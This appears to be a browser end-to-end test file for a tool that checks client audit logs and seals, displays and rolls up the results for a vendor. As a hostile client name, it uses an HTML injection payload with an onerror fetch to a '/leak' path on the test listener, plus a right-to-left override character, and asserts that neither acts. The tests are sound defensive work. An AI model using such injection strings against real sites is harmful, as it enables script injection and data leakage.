// What a client gives back and what a vendor makes of it, in the browser: the text that is shown is the
// text that is saved and that of the command line; sealed results open with the vendor's key alone; a
// hostile name acts nowhere; nothing is asked of the network.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { barriers } from "./lib/axe.mjs";
import { until } from "./lib/browser.mjs";
import { flows } from "./lib/flows.mjs";
import { count, text, there } from "./lib/frame.mjs";
import { listen } from "./lib/listener.mjs";
import { CLI, PAGE, kept, temporary } from "./lib/places.mjs";
import { checkFiles, exported, fill, press } from "./lib/sekisho.mjs";

const SHOTS = kept("screenshots");
const DAY = 86_400;
const START = 1_620_262_800;

const record = (at, user, org, address, action) =>
  JSON.stringify({
    time: new Date(at * 1000).toISOString(), username: user, client_ip: address, action,
    organization_name: org, project: "P1", file_path: `/P1/${user}-${at}.pdf`, result: "success",
  }) + "\n";

/** An audit log of two weeks, then of a theft by one address from all accounts. */
function audit(client, address) {
  const people = ["sato@a", "kato@b", "ito@b"].map((name) => `${name}.${client}.example.jp`);
  let log = "";
  for (let day = 0; day < 14; day++)
    people.forEach((user, place) => {
      const at = START + day * DAY + place;
      log += record(at, user, `${user[5]} KK`, `198.51.100.${place + 5}`, "login");
      log += record(at + 60, user, `${user[5]} KK`, `198.51.100.${place + 5}`, "document_viewed");
    });
  people.forEach((user, place) => {
    const at = START + 15 * DAY + place * 900;
    log += record(at, user, `${place} KK`, address, "login");
    for (let n = 0; n < 4; n++) log += record(at + 60 + n, user, `${place} KK`, address, "document_downloaded");
  });
  return log;
}

const DEFINITION = `
[about]
title = "Sign-ins of May"
vendor = "例示クラウド株式会社"
questions = ["Q1", "Q4"]
`;

/** A vendor with a key, a checker, another key, and results of three clients. */
function makeVendor(base) {
  const folder = temporary("results");
  const place = (name) => join(folder, name);
  const run = (...command) => {
    try {
      return execFileSync(CLI, command, { cwd: folder, stdio: ["ignore", "pipe", "pipe"] });
    } catch (error) {
      // 1: evidence was found, 3: not everything could be read.
      if ([1, 3].includes(error.status)) return error.stdout;
      throw error;
    }
  };
  writeFileSync(place("checker.toml"), DEFINITION);
  run("key", "--out", "vendor.key");
  run("key", "--out", "other.key");
  run("bundle", "checker.toml", "--key", "vendor.key", "--page", PAGE, "--out", "checker.html");
  writeFileSync(place("audit.jsonl"), audit("c1", "203.0.113.7"));
  writeFileSync(place("second.jsonl"), audit("c2", "203.0.113.7"));
  for (const name of ["audit", "second"])
    run("check", "--format", "json", "--out", `${name}.json`, `${name}.jsonl`);
  const result = (report, file, ...more) => run("result", report, "--to", "checker.html", "--out", file, ...more);
  const hostile = `<img src=x onerror="fetch('${base}/leak/name')">\u202e`;
  result("audit.json", "one.sealed", "--level", "pseudonyms", "--name", "第一商事");
  result("second.json", "two.json", "--level", "full", "--name", hostile, "--unsealed");
  result("second.json", "three.json", "--level", "verdict", "--name", "Third", "--unsealed");
  writeFileSync(place("cut.json"), readFileSync(place("two.json")).subarray(0, 900));
  return { folder, place, run };
}

flows((flow) => {
  let listener;
  let vendor;

  before(async () => {
    listener = await listen();
    vendor = makeVendor(listener.base);
  });
  after(() => listener.close());

  /** The text of a result as the page shows it, once it is that of a level. */
  const shown = async (tab, level) => {
    const holds = (level) => document.querySelector("[data-result]")?.textContent.includes(`"level": "${level}"`);
    await until(() => tab.frame(holds, level), { what: `the text of ${level}` });
    return text(tab, "[data-result]");
  };

  const saved = async (tab) => {
    const download = tab.download();
    await press(tab, "[data-action=save-result]");
    return readFileSync(await download);
  };

  test("a client sees what it gives, to the byte, and only the vendor reads it", async () => {
    const tab = await flow.open(vendor.place("checker.html"));
    await there(tab, "[data-checker=opened]");
    const json = await checkFiles(tab, [vendor.place("audit.jsonl")]);
    writeFileSync(vendor.place("page.json"), json);
    await there(tab, "#giveback [data-result]");
    assert.match(await text(tab, "#giveback"), /例示クラウド株式会社/);
    await fill(tab, "#result-client", "第一商事");
    await until(async () => (await shown(tab, "verdict")).includes("第一商事"), { what: "the name" });
    for (const level of ["verdict", "counts", "pseudonyms"]) {
      await press(tab, `[name=result-level][value=${level}]`);
      const told = await shown(tab, level);
      assert.ok(!told.includes("203.0.113") && !told.includes("sato"), level);
      const command = ["result", "page.json", "--to", "checker.html", "--unsealed", "--level", level, "--name", "第一商事"];
      assert.equal(told, String(vendor.run(...command)));
    }
    assert.deepEqual(await barriers(tab), []);
    await tab.frame(() => document.querySelector("#giveback").scrollIntoView());
    await tab.screenshot(join(SHOTS, `${flow.shot}-giveback.png`));
    const told = await shown(tab, "pseudonyms");
    writeFileSync(vendor.place("page.sealed"), await saved(tab));
    const all = JSON.parse(vendor.run("rollup", "page.sealed", "--key", "vendor.key", "--format", "json"));
    assert.deepEqual(all.clients.map(({ client, is_sealed }) => [client, is_sealed]), [["第一商事", true]]);
    await press(tab, "#result-sealed");
    await until(async () => !(await tab.frame(() => document.querySelector("#result-sealed").checked)), { what: "no seal" });
    assert.equal(String(await saved(tab)), told);
    await press(tab, "[name=result-level][value=full]");
    assert.match(await shown(tab, "full"), /sato@a\.c1\.example\.jp/);
    await tab.close();
    assert.deepEqual(listener.requests, [], "nothing was asked of the network");
  });

  test("without a vendor, pseudonyms are of a key that nobody has", async () => {
    const tab = await flow.open();
    await there(tab, ".drop-zone");
    await checkFiles(tab, [vendor.place("audit.jsonl")]);
    await press(tab, "[name=result-level][value=pseudonyms]");
    const told = await shown(tab, "pseudonyms");
    assert.equal(await count(tab, "#result-sealed"), 0);
    assert.match(await text(tab, "#giveback"), flow.says(/random key/, /乱数|ランダム/));
    assert.equal(String(await saved(tab)), told);
    const checker = vendor.run("result", "audit.json", "--to", "checker.html", "--unsealed", "--level", "pseudonyms");
    assert.notEqual(JSON.parse(told).key, JSON.parse(checker).key);
    await tab.close();
  });

  const answers = (tab) =>
    tab.frame(() => [...document.querySelectorAll("[data-client]")].map((row) => row.dataset.client));

  test("results make one list, which the vendor's key completes", async () => {
    const tab = await flow.open();
    await there(tab, ".drop-zone");
    const files = ["one.sealed", "two.json", "three.json", "cut.json"];
    await tab.give(files.map(vendor.place));
    await there(tab, "[data-client]");
    assert.equal((await answers(tab)).length, 2);
    assert.equal(await count(tab, "[data-key=needed]"), 1);
    assert.equal(await count(tab, "[data-aside]"), 2);
    await tab.choose("#rollup-key", [vendor.place("other.key")]);
    await until(async () => flow.says(/sealed to the key/, /宛てに暗号化/).test(await text(tab, "#set-aside")), { what: "another key" });
    assert.equal((await answers(tab)).length, 2);
    await tab.choose("#rollup-key", [vendor.place("cut.json")]);
    await until(async () => flow.says(/no key of this program/, /鍵ではありません/).test(await text(tab, ".rollup-given [role=alert]")), { what: "no key" });
    await tab.choose("#rollup-key", [vendor.place("vendor.key")]);
    await until(async () => (await answers(tab)).length === 3, { what: "the sealed one" });
    assert.ok((await answers(tab)).includes("第一商事"));
    // One gave names, the other pseudonyms: with the key they are known to mean the same.
    await there(tab, "[data-shared=network]");
    assert.match(await text(tab, "#shared"), /203\.0\.113\.0\/24/);
    await fill(tab, "#rollup-expected", "第一商事\nLate KK");
    await until(async () => /Late KK/.test(await text(tab, "#not-answered")), { what: "who has not answered" });
    assert.match(await text(tab, "#answers"), /<img src=x/);
    assert.match(await text(tab, "#answers"), flow.says(/made on \d{4}-\d\d-\d\d/, /\d{4}-\d\d-\d\d/));
    assert.ok((await count(tab, "[data-lane] rect")) > 0, "a timeline over all clients");
    assert.equal(await count(tab, ".rollup img"), 0);
    assert.ok(!(await text(tab, "#answers")).includes("\u202e"), "what reverses is shown by its number");
    assert.deepEqual(await barriers(tab), []);
    await tab.screenshot(join(SHOTS, `${flow.shot}-rollup.png`));
    writeFileSync(vendor.place("expected.txt"), "第一商事\nLate KK\n");
    for (const form of ["csv", "json", "parties"]) {
      const command = ["rollup", ...files, "--key", "vendor.key", "--expected", "expected.txt", "--format", form, "--lang", flow.language];
      assert.equal(await exported(tab, form), String(vendor.run(...command)), form);
    }
    await press(tab, flow.says("[data-choice=ja]", "[data-choice=en]"));
    const heading = flow.says(/取引先の結果/, /Results of clients/);
    await until(async () => heading.test(await text(tab)), { what: "the other language" });
    assert.doesNotMatch(await text(tab, "main"), /安全|問題なし/);
    assert.deepEqual(await barriers(tab), []);
    await press(tab, "[data-action=other]");
    await there(tab, ".drop-zone");
    await tab.close();
    assert.deepEqual(listener.requests, [], "nothing was asked of the network");
  });
});
